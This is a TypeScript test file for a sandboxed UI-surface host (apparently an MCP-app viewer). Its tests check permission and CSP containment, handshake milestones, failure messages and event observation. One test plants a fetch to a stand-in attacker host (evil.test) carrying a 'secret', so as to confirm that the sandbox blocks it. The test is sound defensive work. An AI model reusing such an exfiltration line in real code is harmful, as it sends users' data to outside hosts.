// The facts about a surface that an application may show: requested and granted permissions, milestones, and observed events.
import { createHash } from 'node:crypto';
import { VIEW_STATE } from '@vitrine/protocol/internal/session/view-state';
import type { UIResourcePart } from '@vitrine/protocol/parts';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { type HostPages, openHostPages } from '../../../test/support/browser/host-page.ts';
import { viewFrame } from '../../../test/support/browser/view-frame.ts';
import type * as kitModule from './index.ts';
import type { SurfaceEvent } from './observe.ts';

interface Globals {
  kit: typeof kitModule;
  surface: kitModule.Surface;
  events: SurfaceEvent[];
  /** Every milestone of the snapshots, once each time it changed. */
  milestones: (string | undefined)[];
  /** Resources that `onResource` received, with its answers. */
  reviewed: { hash: string; content: string }[];
  allows: boolean;
}

let pages: HostPages;
beforeAll(async () => {
  pages = await openHostPages();
});
afterAll(() => pages?.close());

/** A view that does as much of the handshake as the test asks for, then `rest`. */
const VIEW = (steps: 'none' | 'initialize' | 'all', rest = '') => `<!doctype html><p>view</p><script>
  const post = m => parent.postMessage({ jsonrpc: '2.0', ...m }, '*');
  addEventListener('message', ({ data }) => {
    if (data.id === 'init' && '${steps}' === 'all') { post({ method: 'ui/notifications/initialized', params: {} }); ${rest} }
    if (data.method === 'ui/resource-teardown') post({ id: data.id, result: {} });
  });
  if ('${steps}' !== 'none') post({ id: 'init', method: 'ui/initialize', params: { appInfo: { name: 'v', version: '1' }, appCapabilities: {}, protocolVersion: '2026-01-26' } });
</script>`;

async function show(
  more: Partial<UIResourcePart>,
  {
    handshakeTimeoutMs = 10_000,
    reviews = false,
    hangs = false,
  }: { handshakeTimeoutMs?: number; reviews?: boolean; hangs?: boolean } = {},
): Promise<Page> {
  const { page } = await pages.open();
  const part: UIResourcePart = {
    type: 'ui-resource',
    uri: 'ui://observe/view',
    server: 'observe',
    mimeType: 'text/html;profile=mcp-app',
    source: 'tool',
    ...more,
  };
  await page.evaluate(
    ({ part, template, handshakeTimeoutMs, reviews, hangs }) => {
      const w = window as unknown as Globals;
      Object.assign(w, { events: [], milestones: [], reviewed: [], allows: false });
      const host = w.kit.createHost({
        sandbox: { template },
        info: { name: 'h', version: '1' },
        handshakeTimeoutMs,
        observe: event => w.events.push(event),
        optIns: server => (server === 'observe' ? ['wasm'] : []),
        grantPermissions: ({ clipboardWrite }) => (clipboardWrite ? { clipboardWrite } : {}),
        ...(reviews && {
          onResource: ({ hash, content }) => {
            w.reviewed.push({ hash, content });
            return w.allows;
          },
        }),
        ...(hangs && { viewState: { load: () => new Promise(() => {}), save: () => {} }, viewStateTimeoutMs: 50 }),
        onAction: async () => {
          throw new w.kit.ActionRefused('Not today.');
        },
      });
      w.surface = host.surface({ id: 'call', part, tool: { name: 't' } });
      w.surface.fallback.textContent = 'the tool’s own text';
      w.surface.setInput({ a: 1 });
      w.surface.setResult({ content: [{ type: 'text', text: 'done' }] });
      w.surface.subscribe(() => {
        const { milestone } = w.surface.getSnapshot();
        if (w.milestones.at(-1) !== milestone) w.milestones.push(milestone);
      });
      w.surface.show(document.querySelector('#root') as HTMLElement);
    },
    { part, template: pages.template, handshakeTimeoutMs, reviews, hangs },
  );
  return page;
}

const state = (page: Page, wanted: string) =>
  page.waitForSelector(`[data-surface-id][data-surface-state="${wanted}"]`, { state: 'attached' });
const milestones = (page: Page) => page.evaluate(() => (window as unknown as Globals).milestones);
const containment = (page: Page) =>
  page.evaluate(() => (window as unknown as Globals).surface.getSnapshot().containment);
/** Waits for an event that has these fields, and gives it. */
const event = async (page: Page, fields: Partial<Record<string, unknown>>) => {
  const eventHandle = await page.waitForFunction(
    wanted =>
      (window as unknown as { events: Record<string, unknown>[] }).events.find(seen =>
        Object.entries(wanted).every(([name, value]) => seen[name] === value),
      ),
    fields,
  );
  return eventHandle.jsonValue();
};

it('containment reports what was requested and granted, then the origin and the hash (H04)', async () => {
  const content = VIEW('all', '/* Grüße ☂ */');
  const page = await show({
    content,
    metadata: {
      ui: {
        csp: { connectDomains: ['https://ok.test', '*'], frameDomains: ['https://frame.test'] },
        permissions: { clipboardWrite: {}, camera: {} },
        domain: 'app',
      },
    },
  });
  const start = {
    requested: {
      csp: { connectDomains: ['https://ok.test', '*'], frameDomains: ['https://frame.test'] },
      permissions: { clipboardWrite: {}, camera: {} },
      domain: 'app',
    },
    granted: {
      csp: { connectDomains: ['https://ok.test'], resourceDomains: [], frameDomains: [], baseUriDomains: [] },
      permissions: { clipboardWrite: {} },
      optIns: ['wasm'],
      dedicated: true,
    },
    refused: ['*', 'https://frame.test'],
  };
  expect(await containment(page)).toMatchObject(start);
  await state(page, 'ready');
  const frame = await viewFrame(page.frameLocator('[data-surface-id] iframe'));
  // Nothing waits for the hash.
  await expect
    .poll(() => containment(page))
    .toEqual({
      ...start,
      rung: 'sites',
      origin: new URL(frame.url()).origin,
      hash: createHash('sha256').update(content).digest('hex'),
    });
  await page.close();
});

it('a resource that requests nothing is granted nothing', async () => {
  const page = await show({ content: '<p>static</p>', server: 'other' });
  expect(await containment(page)).toMatchObject({
    requested: {},
    granted: { permissions: {}, optIns: [], dedicated: false },
    refused: [],
  });
  await state(page, 'ready');
  expect(await milestones(page)).toEqual(['resource', 'html']);
  await page.close();
});

it('the milestone follows the run', async () => {
  const page = await show({ content: VIEW('all') });
  await state(page, 'ready');
  await page.waitForFunction(() => (window as unknown as Globals).surface.getSnapshot().milestone === 'result');
  expect(await milestones(page)).toEqual(['resource', 'html', 'initialize', 'initialized', 'input', 'result']);
  await page.close();
});

it.each([
  ['resource', 'Its page did not arrive.', { ref: '0'.repeat(64) }],
  ['html', 'Its page arrived, but did not start.', { content: VIEW('none', 'ui/initialize') }],
  ['initialize', 'Its page began to start, and did not finish.', { content: VIEW('initialize') }],
] as const)(
  'a surface that failed at %s reports it: %s It shows the tool’s text, and can be retried',
  async (milestone, reached, part) => {
    // The view must begin within it.
    const page = await show(part, { handshakeTimeoutMs: milestone === 'initialize' ? 5000 : 1500 });
    await state(page, 'failed');
    const box = page.locator('[data-surface-id]');
    await expect
      .poll(() => box.locator('.vitrine-surface-message').textContent())
      .toBe(`The interface could not be shown. ${reached}`);
    const reason = await page.evaluate(() => (window as unknown as Globals).surface.getSnapshot().error!.message);
    await expect.poll(() => box.getByRole('status').getByText(reason).isVisible()).toBe(true);
    expect(await page.evaluate(() => (window as unknown as Globals).surface.getSnapshot().milestone)).toBe(milestone);
    await expect.poll(() => box.getByText('the tool’s own text').isVisible()).toBe(true);
    if (milestone !== 'resource') {
      await box.getByRole('button', { name: 'Try again' }).click();
      await page.waitForFunction(
        wanted => (window as unknown as Globals).milestones.join().includes(`${wanted},resource,html`),
        milestone,
      );
    }
    await page.close();
  },
);

it('every message is observed, also those that the sandbox sends in the early handshake', async () => {
  const page = await show({ content: VIEW('all') });
  await page.waitForFunction(() => (window as unknown as Globals).surface.getSnapshot().milestone === 'result');
  const messageLabels = await page.evaluate(() =>
    (window as unknown as Globals).events.flatMap(event => {
      if (event.type !== 'message') return [];
      const { method, result } = event.message as { method?: string; result?: object };
      return [`${event.direction} ${method ?? Object.keys(result ?? {})}`];
    }),
  );
  expect(messageLabels).toEqual([
    'in ui/initialize',
    'out protocolVersion,hostInfo,hostCapabilities,hostContext',
    'in ui/notifications/initialized',
    'out ui/notifications/tool-input',
    'out ui/notifications/tool-result',
  ]);
  await page.close();
});

it('sizes, refused actions, dropped messages and blocked requests are observed', async () => {
  const page = await show({
    content: VIEW(
      'all',
      `post({ method: 'ui/notifications/size-changed', params: { height: 1e9 } });
       post({ id: 'go', method: 'tools/call', params: { name: 'go' } });
       parent.postMessage({ nonsense: 1 }, '*');
       fetch('https://evil.test/?secret').catch(() => {});`,
    ),
  });
  expect(await event(page, { type: 'size' })).toEqual({ type: 'size', height: 2000, wanted: { height: 2000 } });
  expect(await event(page, { type: 'refused' })).toEqual({ type: 'refused', action: 'tool', reason: 'Not today.' });
  expect(await event(page, { type: 'dropped' })).toEqual({ type: 'dropped', count: 1 });
  expect(await event(page, { type: 'blocked' })).toMatchObject({
    type: 'blocked',
    directive: 'connect-src',
    target: expect.stringContaining('evil.test'),
  });
  await page.close();
});

it('a view starts without its state when the state store hangs, and the failure is observed', async () => {
  const page = await show({ content: VIEW('all') }, { hangs: true });
  await state(page, 'ready');
  expect(await event(page, { type: 'state-missing' })).toMatchObject({ reason: expect.stringContaining('50 ms') });
  const offers = await page.evaluate(() =>
    (window as unknown as Globals).events.flatMap(event => {
      const { result } = (event.type === 'message' ? event.message : {}) as {
        result?: { hostCapabilities: { experimental?: object } };
      };
      return result ? [Object.keys(result.hostCapabilities.experimental ?? {})] : [];
    }),
  );
  expect(offers).toHaveLength(1);
  expect(offers[0]).not.toContain(VIEW_STATE.key);
  await page.close();
});

it('a view that navigates away is observed', async () => {
  const page = await show({ content: VIEW('all', 'location.reload();') });
  await event(page, { type: 'navigated' });
  await state(page, 'failed');
  await page.close();
});

it('onResource receives the document before any sandbox does, may refuse it, and is called in each run', async () => {
  const content = VIEW('all');
  const page = await show({ content }, { reviews: true });
  await state(page, 'failed');
  const hash = createHash('sha256').update(content).digest('hex');
  expect(await page.evaluate(() => (window as unknown as Globals).reviewed)).toEqual([{ hash, content }]);
  expect(
    await page.evaluate(() => {
      const { error, milestone } = (window as unknown as Globals).surface.getSnapshot();
      return { code: error?.code, retryable: error?.retryable, milestone };
    }),
  ).toEqual({ code: 'resource-refused', retryable: true, milestone: 'resource' });
  expect(
    await page.evaluate(() => (window as unknown as Globals).events.filter(({ type }) => type === 'message')),
  ).toEqual([]);
  await page.evaluate(() => {
    const w = window as unknown as Globals;
    w.allows = true;
    w.surface.retry();
  });
  await state(page, 'ready');
  expect(await page.evaluate(() => (window as unknown as Globals).reviewed.length)).toBe(2);
  await page.close();
});
